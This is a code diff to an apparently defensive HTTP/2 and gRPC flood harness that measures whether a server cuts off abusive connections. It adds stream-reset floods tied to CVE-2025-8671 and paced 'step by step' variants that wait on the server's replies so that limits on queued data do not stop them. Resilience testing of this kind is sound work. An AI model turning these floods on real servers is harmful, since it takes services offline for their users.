@@ -22,7 +22,7 @@ import struct
 import sys
 import time
 from collections.abc import Callable, Iterable
-from dataclasses import asdict, dataclass, field
+from dataclasses import asdict, dataclass, field, replace
 from functools import cache
 from itertools import cycle
 
@@ -66,6 +66,9 @@ COMES_BACK_AFTER_S = 0.01
 #: Streams of a flood that cannot be sent twice on one connection: each id is good for one.
 STREAMS = 20_000
 
+#: Of those that do not run ahead of the server: what they do at once.
+STEP = 50
+
 
 @dataclass(frozen=True)
 class Flood:
@@ -79,6 +82,10 @@ class Flood:
     greets: bool = True
     #: Reads what the server answers. Who does not, is told of the end by the socket alone.
     reads: bool = True
+    #: Sends only so many bytes, and goes on when the server has answered them with this many frames of a type:
+    #: whoever does not run ahead of the server is not stopped by a limit that is on what waits.
+    step_bytes: int = 0
+    step_answers: tuple[int, int] = (0, 0)
 
 
 @dataclass
@@ -130,6 +137,11 @@ def many(frame: bytes, bytes_about: int = 256 * 1024) -> bytes:
     return frame * (bytes_about // len(frame) + 1)
 
 
+def in_steps(flood: Flood, frames: int, answer: int) -> Flood:
+    """The same flood of so many equal parts, a few of them at a time: each part is answered with one frame."""
+    return replace(flood, step_bytes=len(flood.flood) // frames * STEP, step_answers=(answer, STEP))
+
+
 @cache
 def call(path: str, *extra: Field) -> bytes:
     """The header block of a call."""
@@ -137,6 +149,8 @@ def call(path: str, *extra: Field) -> bytes:
 
 
 CALL = call(CHECK)
+PATHLESS = block(grpc_headers(CHECK, drop=[":path"]))
+TRAILERS = block([("x-late", "1")])
 OPEN_STREAM = headers(1, call(REFLECT))
 GREETING = (
     PREFACE
@@ -168,18 +182,6 @@ def _bomb() -> Flood:
     return Flood(each_stream(frames, 50, first=3), headers(1, first, end=True), repeats=False)
 
 
-def _invalid_headers() -> bytes:
-    """Four header lists that HTTP/2 forbids."""
-    wrong = [
-        block(grpc_headers(CHECK, ("Upper-Case", "1"))),
-        block(grpc_headers(CHECK, drop=[":path"])),
-        block(grpc_headers(CHECK, ("connection", "close"))),
-        block([*grpc_headers(CHECK), (":method", "POST")]),
-    ]
-    streams = range(1, 1 + 2 * STREAMS, 2)
-    return b"".join(headers(stream, item) for stream, item in zip(streams, cycle(wrong)))
-
-
 def _settings_with_streams() -> Flood:
     """Each change of the initial window changes the window of every open stream: 900 of them."""
     opening = each_stream(lambda stream: headers(stream, call(REFLECT)), 900)
@@ -190,6 +192,46 @@ def _settings_with_streams() -> Flood:
 def _tls_hello() -> bytes:
     """The beginning of a TLS handshake, where none is expected."""
     return b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + random.Random(1).randbytes(501)
+
+
+#: Each of these makes the server send one RST_STREAM for each stream, or give up on the connection.
+PROVOKED: dict[str, Callable[[], Flood]] = {
+    "window overflow": lambda: Flood(
+        each_stream(lambda stream: headers(stream, CALL) + window_update(stream, LARGE_WINDOW)), repeats=False
+    ),
+    "content-length mismatch": lambda: Flood(
+        each_stream(
+            lambda stream: headers(stream, call(CHECK, ("content-length", "1")))
+            + raw_frame(DATA, END_STREAM, stream, message(b""))
+        ),
+        repeats=False,
+    ),
+    "invalid headers": lambda: Flood(
+        each_stream(lambda stream: headers(stream, call(CHECK, ("connection", "close")))), repeats=False
+    ),
+    "headers without a path": lambda: Flood(
+        each_stream(lambda stream: headers(stream, PATHLESS)), repeats=False
+    ),
+    "empty headers": lambda: Flood(each_stream(lambda stream: headers(stream, b"")), repeats=False),
+    "trailers that end nothing": lambda: Flood(
+        each_stream(lambda stream: headers(stream, CALL) + headers(stream, TRAILERS)), repeats=False
+    ),
+    "data after the end": lambda: Flood(
+        each_stream(
+            lambda stream: headers(stream, call(WATCH_HEALTH))
+            + raw_frame(DATA, END_STREAM, stream, message(b""))
+            + raw_frame(DATA, 0, stream, b"more")
+        ),
+        repeats=False,
+    ),
+    "calls refused before their end": lambda: Flood(
+        each_stream(lambda stream: headers(stream, call("/no.such.Service/Method"))), repeats=False
+    ),
+}
+
+
+def in_steps_of(make: Callable[[], Flood]) -> Callable[[], Flood]:
+    return lambda: in_steps(make(), STREAMS, RST_STREAM)
 
 
 #: Each is made when it is wanted: some are megabytes.
@@ -215,37 +257,12 @@ FLOODS: dict[str, Callable[[], Flood]] = {
         many(raw_frame(CONTINUATION, 0, 1)), raw_frame(HEADERS, 0, 1, CALL)
     ),
     # Streams that the client makes the server reset (CVE-2025-8671).
-    "window overflow": lambda: Flood(
-        each_stream(lambda stream: headers(stream, CALL) + window_update(stream, LARGE_WINDOW)), repeats=False
-    ),
-    "content-length mismatch": lambda: Flood(
-        each_stream(
-            lambda stream: headers(stream, call(CHECK, ("content-length", "1")))
-            + raw_frame(DATA, END_STREAM, stream, message(b""))
-        ),
-        repeats=False,
-    ),
-    "invalid headers": lambda: Flood(_invalid_headers(), repeats=False),
-    "empty headers": lambda: Flood(each_stream(lambda stream: headers(stream, b"")), repeats=False),
-    "trailers that end nothing": lambda: Flood(
-        each_stream(lambda stream: headers(stream, CALL) + headers(stream, block([("x-late", "1")]))),
-        repeats=False,
-    ),
-    "data after the end": lambda: Flood(
-        each_stream(
-            lambda stream: headers(stream, call(WATCH_HEALTH))
-            + raw_frame(DATA, END_STREAM, stream, message(b""))
-            + raw_frame(DATA, 0, stream, b"more")
-        ),
-        repeats=False,
-    ),
-    "calls refused before their end": lambda: Flood(
-        each_stream(lambda stream: headers(stream, call("/no.such.Service/Method"))),
-        repeats=False,
-    ),
+    **PROVOKED,
+    **{f"{name}, step by step": in_steps_of(make) for name, make in PROVOKED.items() if name != "data after the end"},
     # Frames that cost the sender 9 bytes.
     "settings": lambda: Flood(many(settings((INITIAL_WINDOW_SIZE, LARGE_WINDOW)))),
     "empty settings": lambda: Flood(many(settings())),
+    "settings, step by step": lambda: in_steps(Flood(settings() * STEP), STEP, SETTINGS),
     "settings with 900 open streams": _settings_with_streams,
     "settings, answers unread": lambda: Flood(many(settings()), reads=False),
     "settings acknowledgements": lambda: Flood(many(raw_frame(SETTINGS, ACK, 0))),
@@ -276,6 +293,7 @@ FLOODS: dict[str, Callable[[], Flood]] = {
     "goaway": lambda: Flood(many(raw_frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0))), OPEN_STREAM),
     # Header lists.
     "header lists over the limit": _over_the_limit,
+    "header lists over the limit, step by step": lambda: in_steps(_over_the_limit(), 2_000, HEADERS),
     "header bomb": _bomb,
     # Over the number of streams that the server allows.
     "too many streams": lambda: Flood(
@@ -324,16 +342,20 @@ class Attacker:
 
     def _connection(self, sock: socket.socket, end: float, result: Attack) -> None:
         sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        scanner = Scanner()
         if self._flood.greets:
             sock.sendall(GREETING)
             # The server's SETTINGS: it has taken this connection.
-            if not sock.recv(65_536):
+            hello = sock.recv(65_536)
+            if not hello:
                 raise ConnectionResetError
+            scanner.saw_goaway(hello)
             sock.sendall(raw_frame(SETTINGS, ACK, 0))
         sock.sendall(self._flood.opening)
         sock.setblocking(False)
         began = time.monotonic()
-        told, closed = self._flood_until_cut_off(sock, end, result)
+        told, closed = self._flood_until_cut_off(sock, end, result, scanner)
+        result.resets_seen += scanner.resets
         seen = min(item for item in (told, closed, float("inf")) if item is not None)
         if seen == float("inf"):
             result.not_cut_off.append(time.monotonic() - began)
@@ -343,12 +365,14 @@ class Attacker:
                 result.not_closed += 1
 
     def _flood_until_cut_off(
-        self, sock: socket.socket, end: float, result: Attack
+        self, sock: socket.socket, end: float, result: Attack, scanner: Scanner
     ) -> tuple[float | None, float | None]:
         """When GOAWAY was read, and when the connection ended; None where it did not."""
         told: float | None = None
-        scanner = Scanner()
         at, is_sent = 0, False
+        step = self._flood.step_bytes
+        answer, answers = self._flood.step_answers
+        step_end = step or len(self._view)
         poll = select.poll()
         read = select.POLLIN if self._flood.reads else 0
         while True:
@@ -358,7 +382,7 @@ class Attacker:
             if told is None and now >= end:
                 return None, None
             wants = read | select.POLLRDHUP
-            if not is_sent and told is None:
+            if not is_sent and told is None and at < step_end:
                 wants |= select.POLLOUT
             poll.register(sock, wants)
             limit = end if told is None else told + self.CLOSES_WITHIN_S
@@ -378,13 +402,17 @@ class Attacker:
                 if data and scanner.saw_goaway(data) and told is None:
                     told = time.monotonic()
                     self._count(result, str(scanner.code))
-                result.resets_seen += scanner.take_resets()
+                if step and at >= step_end and scanner.seen[answer] >= answers:
+                    scanner.seen[answer] -= answers
+                    # The last step of what may be repeated is followed by the first.
+                    at = at % len(self._view) if self._flood.repeats else at
+                    step_end = min(at + step, len(self._view))
             elif events & (select.POLLRDHUP | select.POLLHUP | select.POLLERR):
                 self._count(result, "end")
                 return told, time.monotonic()
             if events & select.POLLOUT and told is None:
                 try:
-                    sent = sock.send(self._view[at : at + 65_536])
+                    sent = sock.send(self._view[at : min(at + 65_536, step_end)])
                 except BlockingIOError:
                     continue
                 except OSError as error:
@@ -396,7 +424,7 @@ class Attacker:
                     continue
                 result.bytes_sent += sent
                 at += sent
-                if at == len(self._view):
+                if at == len(self._view) and not step:
                     at, is_sent = 0, not self._flood.repeats
 
     @staticmethod
@@ -405,11 +433,13 @@ class Attacker:
 
 
 class Scanner:
-    """Looks for GOAWAY and RST_STREAM in what the server sends, and at nothing else."""
+    """Counts the frames that the server sends, and looks at GOAWAY alone."""
 
     def __init__(self) -> None:
         self._buffer = bytearray()
-        self._resets = 0
+        #: By type: those that no step has been answered with yet.
+        self.seen = [0] * 256
+        self.resets = 0
         self.code: int | None = None
 
     def saw_goaway(self, data: bytes) -> bool:
@@ -423,15 +453,13 @@ class Scanner:
             if kind == GOAWAY:
                 self.code = int.from_bytes(buffer[at + 13 : at + 17], "big")
                 found = True
-            elif kind == RST_STREAM:
-                self._resets += 1
+            # Of SETTINGS the acknowledgements alone, for they are answers.
+            elif kind != SETTINGS or buffer[at + 4] & ACK:
+                self.seen[kind] += 1
+                self.resets += kind == RST_STREAM
             at = next_at
         del buffer[:at]
         return found
-
-    def take_resets(self) -> int:
-        resets, self._resets = self._resets, 0
-        return resets
 
 
 def main() -> None:
